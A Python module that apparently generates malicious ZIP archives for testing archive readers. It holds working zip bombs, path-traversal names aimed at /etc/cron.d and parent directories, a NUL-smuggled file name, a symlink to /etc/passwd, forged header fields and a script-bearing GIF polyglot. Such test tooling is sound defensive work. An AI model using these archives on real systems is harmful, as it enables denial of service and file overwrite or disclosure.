"""Archives that mean harm, by what is wrong with the container: each trick around any set of members.

A trick takes the members of a whole archive (the last one is what a reader wants most) and gives bytes.
Bombs as in Fifield, "A better zip bomb" (WOOT 2019); fields as in APPNOTE.TXT 6.3.9.
"""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Mapping

Members = Mapping[str, bytes]
Trick = Callable[[Members], bytes]
_MIB = 1024 * 1024
_CENTRAL, _END = b"PK\x01\x02", b"PK\x05\x06"


def pack(members: Members, more: list[tuple[str | zipfile.ZipInfo, bytes]] | None = None) -> bytes:
    """A whole ZIP of these members, then of `more`, where a name may come twice."""
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        warnings.simplefilter("ignore")  # a name that comes twice is meant
        for name, data in [*members.items(), *(more or ())]:
            archive.writestr(name, data)
    return out.getvalue()


def zeros(count: int) -> bytes:
    """`count` MiB of zeros as a raw deflate stream, without making them all."""
    press = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = press.compress(bytes(_MIB)) + press.flush(zlib.Z_FULL_FLUSH)
    again = press.compress(bytes(_MIB)) + press.flush(zlib.Z_FULL_FLUSH)
    return first + again * (count - 1) + press.flush()


def raw(
    name: bytes, packed: bytes, size: int, crc: int = 0, method: int = 8, flags: int = 0
) -> bytes:
    """A ZIP of one member whose headers say whatever they are told."""
    fields = (method, 0, 33, crc, len(packed), min(size, 0xFFFFFFFF), len(name), 0)
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, flags, *fields) + name + packed
    central = (
        struct.pack("<4sHHHHHHIIIHHHHHII", _CENTRAL, 20, 20, flags, *fields, 0, 0, 0, 0, 0) + name
    )
    return (
        local + central + struct.pack("<4sHHHHIIH", _END, 0, 0, 1, 1, len(central), len(local), 0)
    )


def bomb(mib: int, name: str = "bomb.bin") -> bytes:
    """A whole, honest member of `mib` MiB of zeros."""
    crc = 0
    for _ in range(mib):
        crc = zlib.crc32(bytes(_MIB), crc)
    return raw(name.encode(), zeros(mib), mib * _MIB, crc)


def join(members: Members, last: bytes) -> bytes:
    """The members, then those of another archive: one directory over both."""
    first = pack(members)
    at, end = first.index(_CENTRAL), first.rindex(_END)
    there, over = last.index(_CENTRAL), last.rindex(_END)
    directory = bytearray(last[there:over])
    struct.pack_into("<I", directory, 42, at)
    body = first[:at] + last[:there]
    central = first[at:end] + bytes(directory)
    count = len(members) + 1
    return (
        body
        + central
        + struct.pack("<4sHHHHIIH", _END, 0, 0, count, count, len(central), len(body), 0)
    )


def _entries(data: bytes | bytearray) -> list[int]:
    """Where each directory entry begins."""
    found, at = [], data.index(_CENTRAL)
    while data[at : at + 4] == _CENTRAL:
        found.append(at)
        name, extra, comment = struct.unpack_from("<HHH", data, at + 28)
        at += 46 + name + extra + comment
    return found


def patched(members: Members, offset: int, form: str, value: int, every: bool = False) -> bytes:
    """One field of the last directory entry (or of every one) changed; the local header too for flags
    (8), method (10), CRC (16) and sizes (20, 24), which stand two bytes and more before it there."""
    data = bytearray(pack(members))
    for at in _entries(data) if every else _entries(data)[-1:]:
        struct.pack_into(form, data, at + offset, value)
        if offset in (8, 10, 16, 20, 24):
            local = struct.unpack_from("<I", data, at + 42)[0]
            struct.pack_into(form, data, local + offset - 2, value)
    return bytes(data)


def _overlap(members: Members) -> bytes:
    """A thousand entries over the same 1 MiB."""
    whole = join(members, bomb(1))
    data, at = whole, _entries(whole)[-1]
    end = data.rindex(_END)
    again = data[at:end]
    copies = b"".join(again[:46] + b"%04d.bin" % n for n in range(1000))
    count, size = len(members) + 1001, end - data.index(_CENTRAL) + len(copies)
    tail = struct.pack("<4sHHHHIIH", _END, 0, 0, count, count, size, data.index(_CENTRAL), 0)
    return data[:end] + copies + tail


def _itself(members: Members) -> bytes:
    """A member that is the archive itself, as in a quine: stored, from byte 0, as long as the file."""
    data = bytearray(pack(members))
    at, whole = _entries(data)[-1], len(data)
    struct.pack_into("<H", data, at + 10, 0)
    struct.pack_into("<II", data, at + 20, whole, whole)
    struct.pack_into("<I", data, at + 42, 0)
    return bytes(data)


def _nested(members: Members) -> bytes:
    inner = bomb(64)
    for level in range(5):
        inner = pack({f"{level}-{copy}.zip": inner for copy in range(10)})
    return pack(members, [("nested.zip", inner)])


def _named(name: str) -> Trick:
    return lambda members: pack(members, [(zipfile.ZipInfo(name), b"harm")])


def _renamed(old: str, new: bytes) -> Trick:
    """A name that the writer would not let through, put in afterwards in the same length."""
    return lambda members: pack(members, [(old, b"harm")]).replace(old.encode(), new)


def _link(members: Members) -> bytes:
    link = zipfile.ZipInfo("link")
    link.external_attr, link.create_system = 0o120777 << 16, 3
    return pack(members, [(link, b"/etc/passwd")])


def _ends(of: str, value: int) -> Trick:
    """A field of the end record that lies."""
    offset, form = {
        "count": (10, "<H"),
        "size": (12, "<I"),
        "start": (16, "<I"),
        "disk": (4, "<H"),
    }[of]

    def trick(members: Members) -> bytes:
        data = bytearray(pack(members))
        struct.pack_into(form, data, data.rindex(_END) + offset, value)
        if of == "count":
            struct.pack_into(form, data, data.rindex(_END) + 8, value)
        return bytes(data)

    return trick


def _zip64(members: Members) -> bytes:
    """A member of 2^62 bytes, by its ZIP64 field."""
    name, extra = b"huge.bin", struct.pack("<HHQQ", 1, 16, 1 << 62, 4)
    lying = bytearray(raw(name, b"\x03\x00\x00\x00", 0xFFFFFFFF))
    at = lying.index(_CENTRAL)
    struct.pack_into("<I", lying, at + 20, 0xFFFFFFFF)
    struct.pack_into("<H", lying, at + 30, len(extra))
    end = lying.index(_END)
    return join(members, bytes(lying[:end]) + extra + bytes(lying[end:]))


def _doubled(members: Members, change: Callable[[str], str] = str) -> bytes:
    name = list(members)[-1]
    return pack(members, [(change(name), members[name])])


def _other_local_name(members: Members) -> bytes:
    data, name = pack(members), list(members)[-1].encode()
    at = data.rindex(name, 0, data.index(_CENTRAL))
    return data[:at] + b"x" * len(name) + data[at + len(name) :]


def _understated(members: Members) -> bytes:
    """Says 100 bytes, holds 250 MiB."""
    return join(members, raw(b"small.bin", zeros(250), 100))


# name -> trick; the same for every kind of container
TRICKS: dict[str, Trick] = {
    "bomb of 250 MiB": lambda m: join(m, bomb(250)),
    "bomb of 4 GiB in a header": lambda m: join(m, raw(b"b", zeros(4095), 4095 * _MIB)),
    "bomb of 2^62 bytes by ZIP64": _zip64,
    "bomb of overlapping members": _overlap,
    "bomb in five levels": _nested,
    "bomb that says it is small": _understated,
    "archive that holds itself": _itself,
    "member ratio over 100": lambda m: pack(m, [("flat.bin", bytes(9 * _MIB))]),
    "3000 members": lambda m: pack(m, [(f"{n}.txt", b"") for n in range(3000)]),
    "path up": _named("../../../../tmp/evil"),
    "path up inside": _named("a/../../evil"),
    "path absolute": _named("/etc/cron.d/evil"),
    "path with backslashes": _renamed("a*a*evil", b"a\\a\\evil"),
    "path with a drive letter": _named("C:evil.exe"),
    "name with NUL": _renamed("nul!x.exe", b"nul\x00x.exe"),
    "symbolic link": _link,
    "member twice": _doubled,
    "member twice but for case": lambda m: _doubled(m, str.swapcase),
    "encrypted": lambda m: patched(m, 8, "<H", 1, every=True),
    "encrypted last member": lambda m: patched(m, 8, "<H", 1),
    "unknown compression": lambda m: patched(m, 10, "<H", 99),
    "compression that is no LZMA": lambda m: patched(m, 10, "<H", 14),
    "wrong CRC": lambda m: patched(m, 16, "<I", 0xDEADBEEF),
    "size too small": lambda m: patched(m, 24, "<I", 3),
    "size too large": lambda m: patched(m, 24, "<I", 60_000),
    "packed size over the end": lambda m: patched(m, 20, "<I", 0x7FFFFFFF),
    "local offset over the end": lambda m: patched(m, 42, "<I", 0x7FFFFFFF),
    "other name in the local header": _other_local_name,
    "count lies": _ends("count", 0xFFFE),
    "directory size lies": _ends("size", 0x7FFFFFFF),
    "directory start lies": _ends("start", 0x7FFFFFFF),
    "cut in half": lambda m: pack(m)[: len(pack(m)) // 2],
    "without its end": lambda m: pack(m)[: pack(m).rindex(_END)],
    "only a start": lambda m: b"PK\x03\x04" + bytes(26),
    "only an end": lambda m: _END + bytes(18),
    "self-extracting": lambda m: b"MZ" + bytes(510) + pack(m),
    "PDF in front": lambda m: b"%PDF-1.7\n%\xe2\xe3\n" + pack(m),
    "GIF in front": lambda m: b"GIF89a=0;alert(1)//" + pack(m),
}
